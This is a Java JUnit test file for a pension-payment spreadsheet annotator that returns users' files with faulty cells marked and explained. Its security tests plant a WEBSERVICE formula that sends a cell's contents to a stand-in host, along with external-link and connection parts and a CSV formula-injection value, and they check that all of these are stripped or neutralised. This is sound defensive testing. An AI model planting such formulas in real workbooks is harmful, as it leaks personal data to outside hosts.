package org.residentpension.exchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.residentpension.exchange.SampleSheets.CHEN;
import static org.residentpension.exchange.SampleSheets.HEADER;
import static org.residentpension.exchange.SampleSheets.PAYMENTS;
import static org.residentpension.exchange.SampleSheets.WANG;
import static org.residentpension.exchange.SampleSheets.csv;
import static org.residentpension.exchange.SampleSheets.workbook;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystem;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.FillPatternType;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFCellStyle;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.residentpension.exchange.copy.AnnotatedCopy;

/** The user's own file comes back: all that was in it, and beside it what is wrong. */
class AnnotatedCopyTest {

    private static final Object[] BAD = {"王小溪", null, "200元", "2023-09-02"};

    @TempDir
    Path folder;

    private Path copy(Path file, List<SheetIssue> issues) throws IOException {
        Path copy = folder.resolve("退回-" + file.getFileName());
        try (OutputStream out = Files.newOutputStream(copy)) {
            assertThat(new AnnotatedCopy(PAYMENTS)
                            .write(file, file.getFileName().toString(), issues, out))
                    .isTrue();
        }
        return copy;
    }

    private Path copy(Path file) throws IOException {
        return copy(file, Seen.in(file).issues);
    }

    private static XSSFSheet open(Path file) throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook(Files.newInputStream(file))) {
            return book.getSheetAt(0);
        }
    }

    private static String text(XSSFSheet sheet, int row, int column) {
        Cell cell = sheet.getRow(row).getCell(column);
        return cell == null ? "" : cell.getStringCellValue();
    }

    private static boolean isRed(Cell cell) {
        XSSFCellStyle style = (XSSFCellStyle) cell.getCellStyle();
        return style.getFillPattern() == FillPatternType.SOLID_FOREGROUND
                && style.getFillForegroundXSSFColor().getARGBHex().equals("FFFF9999");
    }

    @Test
    void refused_cells_are_red_also_the_empty_ones_and_the_reasons_stand_at_the_right() throws IOException {
        XSSFSheet sheet = open(copy(workbook(folder, HEADER, CHEN, BAD)));

        assertThat(text(sheet, 0, 4)).isEqualTo("错误列");
        assertThat(text(sheet, 0, 5)).isEqualTo("错误说明");
        assertThat(sheet.getRow(1).getCell(4)).isNull();
        assertThat(text(sheet, 2, 4)).isEqualTo("证件号码、金额");
        assertThat(text(sheet, 2, 5)).isEqualTo("这一格必须填写，请补上。\n“200元”里有单位或文字，请只填写数字，例如 200。");
        assertThat(isRed(sheet.getRow(2).getCell(1))).isTrue();
        assertThat(isRed(sheet.getRow(2).getCell(2))).isTrue();
        assertThat(isRed(sheet.getRow(2).getCell(0))).isFalse();
        assertThat(text(sheet, 2, 2)).isEqualTo("200元");
        assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:F3");
    }

    @Test
    void everything_else_stays_as_it_was() throws IOException {
        Path file = folder.resolve("花.xlsx");
        try (XSSFWorkbook book = new XSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            XSSFSheet sheet = book.createSheet("名单");
            sheet.addMergedRegion(new CellRangeAddress(0, 0, 0, 3));
            sheet.createRow(0).createCell(0).setCellValue("北斗溪镇");
            for (int r = 0; r < 3; r++) {
                Object[] values = List.of(HEADER, CHEN, BAD).get(r);
                for (int c = 0; c < 4; c++) {
                    (sheet.getRow(r + 1) == null ? sheet.createRow(r + 1) : sheet.getRow(r + 1))
                            .createCell(c)
                            .setCellValue(values[c] == null ? null : values[c].toString());
                }
            }
            XSSFCellStyle bold = book.createCellStyle();
            bold.setFont(book.createFont());
            bold.getFont().setBold(true);
            bold.setDataFormat(book.createDataFormat().getFormat("@"));
            sheet.getRow(3).getCell(2).setCellStyle(bold);
            sheet.getRow(3).setZeroHeight(true);
            sheet.setColumnWidth(1, 9000);
            sheet.setAutoFilter(new CellRangeAddress(1, 3, 0, 3));
            sheet.protectSheet("x");
            book.createSheet("照片").createRow(0).createCell(0).setCellValue("祠堂");
            book.write(out);
        }

        XSSFSheet sheet = open(copy(file));

        assertThat(text(sheet, 0, 0)).isEqualTo("北斗溪镇");
        assertThat(sheet.getMergedRegions()).hasSize(1);
        assertThat(sheet.getColumnWidth(1)).isEqualTo(9000);
        assertThat(sheet.getProtect()).isTrue();
        assertThat(sheet.getWorkbook().getSheet("照片").getRow(0).getCell(0).getStringCellValue())
                .isEqualTo("祠堂");
        XSSFCellStyle style = sheet.getRow(3).getCell(2).getCellStyle();
        assertThat(style.getFont().getBold()).isTrue();
        assertThat(style.getDataFormatString()).isEqualTo("@");
        assertThat(isRed(sheet.getRow(3).getCell(2))).isTrue();
        assertThat(sheet.getRow(3).getZeroHeight())
                .as("a row with a note is shown")
                .isFalse();
        assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A2:F4");
    }

    @Test
    void R_SEC_3_nothing_is_calculated_in_the_copy_that_another_officer_opens_and_values_stay() throws IOException {
        Path file = folder.resolve("算.xlsx");
        try (XSSFWorkbook book = new XSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            XSSFSheet sheet = book.createSheet("名单");
            for (int r = 0; r < 3; r++) {
                sheet.createRow(r);
                for (int c = 0; c < 4; c++) {
                    Object value = List.of(HEADER, CHEN, BAD).get(r)[c];
                    sheet.getRow(r).createCell(c).setCellValue(value == null ? null : value.toString());
                }
            }
            sheet.getRow(1).getCell(0).setCellFormula("\"陈\"&\"大河\"");
            XSSFSheet other = book.createSheet("另一张");
            other.createRow(0).createCell(0).setCellFormula("WEBSERVICE(\"http://x.example/?\"&名单!B2)");
            other.createRow(1).createCell(0).setCellFormula("2*3");
            book.getCreationHelper()
                    .createFormulaEvaluator()
                    .evaluateFormulaCell(sheet.getRow(1).getCell(0));
            book.getCreationHelper()
                    .createFormulaEvaluator()
                    .evaluateFormulaCell(other.getRow(1).getCell(0));
            book.write(out);
        }

        XSSFSheet sheet = open(copy(file));

        assertThat(text(sheet, 1, 0)).isEqualTo("陈大河");
        assertThat(sheet.getRow(1).getCell(0).getCellType()).isEqualTo(CellType.STRING);
        XSSFSheet other = sheet.getWorkbook().getSheet("另一张");
        assertThat(other.getRow(0).getCell(0).getCellType()).isNotEqualTo(CellType.FORMULA);
        assertThat(other.getRow(1).getCell(0).getNumericCellValue()).isEqualTo(6);
        assertThat(sheet.getWorkbook().getCalculationChain()).isNull();
    }

    @Test
    void R_SEC_3_links_to_other_workbooks_and_connections_are_left_out_with_all_that_points_to_them() throws Exception {
        Path file = workbook(folder, HEADER, CHEN, BAD);
        try (FileSystem zip = FileSystems.newFileSystem(file)) {
            Files.createDirectories(zip.getPath("xl/externalLinks/_rels"));
            Files.writeString(zip.getPath("xl/externalLinks/externalLink1.xml"), "<externalLink/>");
            Files.writeString(zip.getPath("xl/externalLinks/_rels/externalLink1.xml.rels"), "<Relationships/>");
            Files.writeString(zip.getPath("xl/connections.xml"), "<connections/>");
            replace(
                    zip.getPath("xl/_rels/workbook.xml.rels"),
                    "</Relationships>",
                    "<Relationship Id=\"rX1\" Type=\"http://x.example/relationships/externalLink\""
                            + " Target=\"externalLinks/externalLink1.xml\"/><Relationship Id=\"rX2\""
                            + " Type=\"http://x.example/relationships/connections\" Target=\"connections.xml\"/></Relationships>");
            replace(
                    zip.getPath("xl/workbook.xml"),
                    "</sheets>",
                    "</sheets><externalReferences><externalReference/></externalReferences>"
                            + "<definedNames><definedName name=\"y\">[1]Tab!A1</definedName></definedNames>");
            replace(
                    zip.getPath("[Content_Types].xml"),
                    "</Types>",
                    "<Override ContentType=\"application/xml\" PartName=\"/xl/connections.xml\"/></Types>");
        }

        Path copy = copy(file);

        assertThat(text(open(copy), 2, 4)).isEqualTo("证件号码、金额");
        try (FileSystem zip = FileSystems.newFileSystem(copy)) {
            assertThat(zip.getPath("xl/connections.xml")).doesNotExist();
            assertThat(zip.getPath("xl/externalLinks/externalLink1.xml")).doesNotExist();
            assertThat(zip.getPath("xl/externalLinks/_rels/externalLink1.xml.rels"))
                    .doesNotExist();
            assertThat(Files.readString(zip.getPath("xl/_rels/workbook.xml.rels")))
                    .contains("worksheet")
                    .doesNotContain("externalLink", "connections");
            assertThat(Files.readString(zip.getPath("xl/workbook.xml")))
                    .contains("sheetId")
                    .doesNotContain("externalReference", "[1]Tab");
            assertThat(Files.readString(zip.getPath("[Content_Types].xml"))).doesNotContain("connections");
        }
    }

    private static void replace(Path part, String old, String now) throws IOException {
        String text = Files.readString(part);
        assertThat(text).contains(old);
        Files.writeString(part, text.replace(old, now));
    }

    @Test
    void what_is_wrong_with_the_whole_file_stands_in_its_first_row() throws IOException {
        XSSFSheet sheet = open(
                copy(workbook(folder, new Object[] {"北斗溪镇"}, new Object[] {"姓名", "证件号码"}, new Object[] {"陈大河", "3"})));

        assertThat(text(sheet, 0, 3)).startsWith("表头缺少必须有的列“金额”").contains("缴费日期");
        assertThat(text(sheet, 1, 3)).isEqualTo("错误说明");
    }

    @Test
    void an_empty_row_that_the_file_leaves_out_gets_its_note() throws IOException {
        XSSFSheet sheet = open(copy(workbook(folder, HEADER, CHEN, null, WANG)));

        assertThat(text(sheet, 2, 5)).contains("空行");
    }

    @Test
    void a_workbook_of_another_program_with_prefixes_and_without_places_is_read_and_annotated() throws IOException {
        Path file = workbook(folder, HEADER, CHEN, new Object[] {"王小溪", "3", "200元", "2023-09-02"});
        Map<String, byte[]> parts = SampleSheets.parts(file);
        String sheet = new String(parts.get("xl/worksheets/sheet1.xml"), StandardCharsets.UTF_8)
                .replaceAll("<(/?)([a-zA-Z])", "<$1x:$2")
                .replace("xmlns=", "xmlns:x=")
                .replaceAll(" r=\"[A-Z]*\\d+\"", "");
        parts.put("xl/worksheets/sheet1.xml", sheet.getBytes(StandardCharsets.UTF_8));

        XSSFSheet copy = open(copy(SampleSheets.zip(file, parts)));

        assertThat(text(copy, 2, 4)).isEqualTo("金额");
        assertThat(copy.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:F3");
    }

    @Test
    void what_a_capability_found_is_written_beside_what_the_reader_found() throws IOException {
        Path file = workbook(folder, HEADER, CHEN, WANG);
        SheetIssue unknown = Seen.in(file).rows.get(0).issue("姓名", "E_NAME", "姓名与参保登记不一致，请核对。");

        XSSFSheet sheet = open(copy(file, List.of(unknown)));

        assertThat(text(sheet, 1, 5)).isEqualTo("姓名与参保登记不一致，请核对。");
        assertThat(isRed(sheet.getRow(1).getCell(0))).isTrue();
    }

    @Test
    void the_copy_can_be_corrected_and_sent_again_and_its_notes_do_not_pile_up() throws IOException {
        Path once = copy(workbook(folder, HEADER, CHEN, BAD));
        Path twice = copy(once, List.of(new SheetIssue(2, "金额", "C_TIER_NOT_ALLOWED", "300", "没有这个档次。")));

        XSSFSheet sheet = open(twice);

        assertThat(Seen.in(once).faults()).containsExactly("3 证件号码 F_REQUIRED", "3 金额 F_MONEY_UNIT");
        assertThat(text(sheet, 0, 5)).isEqualTo("错误说明");
        assertThat(sheet.getRow(0).getLastCellNum()).isEqualTo((short) 6);
        assertThat(text(sheet, 1, 5)).isEqualTo("没有这个档次。");
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-8", "GB18030"})
    void a_text_file_comes_back_in_its_own_encoding(String charset) throws IOException {
        Charset encoding = Charset.forName(charset);
        Path file = csv(folder, encoding, "缴费名单", "姓名,证件号码,金额,缴费日期", "陈大河,,300元,2023-09-01", "=王,3,200,2023-09-02");

        String copy = Files.readString(copy(file), encoding);

        assertThat(copy.split("\r\n"))
                .contains(
                        "姓名,证件号码,金额,缴费日期,错误列,错误说明",
                        "陈大河,,300元,2023-09-01,证件号码、金额,\"这一格必须填写，请补上。\n“300元”里有单位或文字，请只填写数字，例如 300。\"")
                .anyMatch(line -> line.startsWith("'=王,3,200,2023-09-02,姓名,这一格是公式"));
    }

    @Test
    void the_mark_of_utf_8_stays() throws IOException {
        Path file = csv(folder, StandardCharsets.UTF_8, "\uFEFF姓名,证件号码,金额,缴费日期", "陈大河,3,300,2023-09-01");

        assertThat(Files.readString(copy(file))).startsWith("\uFEFF姓名");
    }

    @Test
    void a_file_that_cannot_be_read_cannot_be_given_back() throws IOException {
        Path file = SampleSheets.bytes(folder, "断.xlsx", new byte[] {'P', 'K', 3, 4, 5});
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        assertThat(new AnnotatedCopy(PAYMENTS).write(file, "断.xlsx", List.of(), out))
                .isFalse();
        assertThat(out.size()).isZero();
    }
}
